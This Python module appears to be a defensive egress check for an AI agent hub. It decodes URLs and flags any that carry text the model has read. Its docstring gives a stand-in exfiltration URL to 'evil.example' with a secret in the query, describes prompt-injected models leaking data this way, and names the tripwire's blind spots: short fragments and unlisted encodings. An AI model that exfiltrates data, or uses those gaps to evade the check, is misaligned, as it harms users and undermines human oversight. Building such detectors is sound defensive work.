"""What a URL sends out, and whether that includes text the model has read.

An injected model leaks data by putting it in a URL: ``https://evil.example/?k=<secret>``.
Everything of the URL that leaves the hub is looked at — userinfo, the labels a host adds in
front of its domain, path segments, query keys and values (the fragment is never sent) —
percent-decoded, and again after base64, base64url, hex or base32 decoding where that gives
mostly printable text. A value counts as carried when the whole of it (8 characters or more)
or one of its tokens (runs of letters, digits and ``_-.@+``, 8 characters or more) occurs in
``Exposure``. The work per URL is bounded: a longer URL, or one with more distinct pieces than
are checked, counts as carried, because the part not looked at could hold anything.

This is a tripwire, not a proof: text cut into pieces shorter than the token size, or encoded
in a way not listed here, passes. The per-host approval is what a person always sees.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Collection, Iterator
from urllib.parse import unquote, unquote_plus

from yarl import URL

from .base import Exposure

MAX_URL_CHARS = 4096
"""Longest URL (without its fragment) looked through; a longer one counts as carried."""
MAX_PIECES = 128
"""Most distinct pieces checked against the exposure per URL; more counts as carried."""
MIN_CHARS = 8
"""Shortest value or token that counts: shorter ones match ordinary text by chance."""

_DECODE_DEPTH = 2
_TOKEN = re.compile(r"[\w.@+-]+")
_TOKEN_EDGES = "._@+-"
_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{12,}={0,2}")
_HEX = re.compile(r"[0-9A-Fa-f]{16,}")
_BASE32 = re.compile(r"[A-Za-z2-7]{16,}={0,6}")
_BASE32_VALID_REMAINDERS = frozenset({0, 2, 4, 5, 7})
_PRINTABLE_SHARE = 0.9
_MAX_SEGMENT_STARTS = 16


def egress_grant(host: str) -> str:
    """The grant that lets this conversation fetch from ``host`` without asking again."""
    return f"egress:{host}"


def normalise_host(host: str) -> str:
    """``host`` as compared everywhere: lowercase, IDNA (``xn--``), no trailing dot."""
    host = host.strip().lower().rstrip(".")
    if host.isascii() or not host:
        return host
    try:
        return (URL.build(scheme="http", host=host).raw_host or host).rstrip(".")
    except ValueError:
        return host


def host_matches(host: str, patterns: Collection[str]) -> bool:
    """Whether ``host`` is one of ``patterns`` or a subdomain of one (``*.`` is optional)."""
    for pattern in patterns:
        p = normalise_host(pattern.strip().removeprefix("*.").strip("[]"))
        if p and (host == p or (not _is_ip(host) and host.endswith("." + p))):
            return True
    return False


class _TooMuch(Exception):
    """More pieces than ``MAX_PIECES``."""


class _Pieces:
    """Distinct strings to look for in the exposure, each with how it was encoded in the URL."""

    def __init__(self) -> None:
        self.found: dict[str, str] = {}

    def add_text(self, text: str, how: str = "", depth: int = _DECODE_DEPTH) -> None:
        if len(text) >= MIN_CHARS:
            self._add(text, how)
        for token in _TOKEN.findall(text):
            # A sentence's full stop or a joining dash is not part of the data it carries.
            for t in (token, token.strip(_TOKEN_EDGES)):
                if len(t) >= MIN_CHARS:
                    self._add(t, how)
        if depth > 0:
            for decoded, encoding in _decodings(text):
                self.add_text(decoded, how or encoding, depth - 1)

    def _add(self, text: str, how: str) -> None:
        if text not in self.found:
            if len(self.found) >= MAX_PIECES:
                raise _TooMuch
            self.found[text] = how


def _unquote(text: str, *, plus: bool = False) -> str:
    """Percent-decoded until stable (a value may be encoded twice to hide it)."""
    for _ in range(3):
        decoded = unquote_plus(text) if plus else unquote(text)
        if decoded == text:
            break
        text = decoded
    return text


def _sent_parts(url: URL) -> list[str]:
    """The decoded parts of ``url`` that leave the hub, whole and one by one."""
    parts = [_unquote(raw) for raw in (url.raw_user, url.raw_password) if raw]
    host = url.raw_host or ""
    if not _is_ip(host):
        # The last two labels are the domain a person approves; the ones in front are free text.
        parts.extend(host.split(".")[:-2])
    path = url.raw_path
    parts.append(_unquote(path))
    parts.extend(_unquote(segment) for segment in path.split("/") if segment)
    query = url.raw_query_string
    if query:
        pieces = [query, *(kv for pair in query.split("&") for kv in pair.split("=", 1))]
        for piece in pieces:
            # Servers read "+" as a space in a query, but base64 keeps it: look at both.
            parts.extend(dict.fromkeys((_unquote(piece), _unquote(piece, plus=True))))
    return parts


def _is_ip(host: str) -> bool:
    return ":" in host or host.replace(".", "").isdigit()


def _printable(data: bytes) -> str | None:
    text = data.decode("utf-8", errors="replace")
    if not text:
        return None
    good = sum(1 for ch in text if ch != "\ufffd" and (ch.isprintable() or ch in "\t\n\r"))
    return text if good >= _PRINTABLE_SHARE * len(text) else None


def _base64_candidates(run: str) -> Iterator[str]:
    core = run.rstrip("=")
    yield core
    # Standard base64 uses "/", which also splits a path: also try from each segment on.
    starts = [i + 1 for i, ch in enumerate(core[:-12]) if ch == "/"]
    for start in starts[:_MAX_SEGMENT_STARTS]:
        yield core[start:]


def _decode_base64(text: str) -> bytes | None:
    text = text.replace("-", "+").replace("_", "/")
    if len(text) % 4 == 1:
        text = text[:-1]
    try:
        return base64.b64decode(text + "=" * (-len(text) % 4), validate=True)
    except binascii.Error:
        return None


def _decode_hex(run: str) -> list[bytes]:
    options = [run] if len(run) % 2 == 0 else [run[:-1], run[1:]]
    return [bytes.fromhex(o) for o in options]


def _decode_base32(run: str) -> bytes | None:
    core = run.rstrip("=")
    while len(core) % 8 not in _BASE32_VALID_REMAINDERS:
        core = core[:-1]
    try:
        return base64.b32decode(core + "=" * (-len(core) % 8), casefold=True)
    except binascii.Error:
        return None


def _decodings(text: str) -> Iterator[tuple[str, str]]:
    """Printable decodings of the encoded-looking runs in ``text``, each with its encoding."""
    for match in _BASE64.finditer(text):
        for candidate in _base64_candidates(match.group()):
            decoded = _decode_base64(candidate)
            kind = "base64url" if "-" in candidate or "_" in candidate else "base64"
            if decoded is not None and (readable := _printable(decoded)) is not None:
                yield readable, kind
    for match in _HEX.finditer(text):
        for decoded in _decode_hex(match.group()):
            if (readable := _printable(decoded)) is not None:
                yield readable, "hex"
    for match in _BASE32.finditer(text):
        b32 = _decode_base32(match.group())
        if b32 is not None and (readable := _printable(b32)) is not None:
            yield readable, "base32"


def _pieces(url: URL) -> dict[str, str] | None:
    """Every piece of ``url`` to look for, with its encoding; None when there are too many."""
    pieces = _Pieces()
    try:
        for part in _sent_parts(url):
            pieces.add_text(part)
    except _TooMuch:
        return None
    return pieces.found


def sent_text(url: URL) -> str:
    """Everything ``url`` sends, decoded, in one text (empty when it has too many pieces)."""
    return "\n".join(_pieces(url) or ()).casefold()


def carried_reason(url: URL, exposure: Exposure, *, already_sent: str = "") -> str | None:
    """Why ``url`` counts as carrying text the model read, or None when it does not.

    Args:
        url: the URL as it will be requested.
        exposure: what the model has read.
        already_sent: what a person already let go to this host (``sent_text`` of the
            approved URL); a redirect that repeats part of it carries nothing new.
    """
    url = url.with_fragment(None)
    size = len(str(url))
    if size > MAX_URL_CHARS:
        return f"the URL is too long to check ({size} characters) for text the model read earlier"
    pieces = _pieces(url)
    if pieces is None:
        return f"the URL has too many parts to check (over {MAX_PIECES}) for text the model read earlier"
    for text, how in pieces.items():
        if text.casefold() not in already_sent and exposure.contains(text):
            encoded = f", {how}-encoded" if how else ""
            return f"the URL carries text the model read earlier (…'{_excerpt(text)}'…{encoded})"
    return None


def _excerpt(text: str, width: int = 16) -> str:
    flat = " ".join(text.split()).replace("'", "’")
    return flat if len(flat) <= width else flat[: width - 1] + "…"
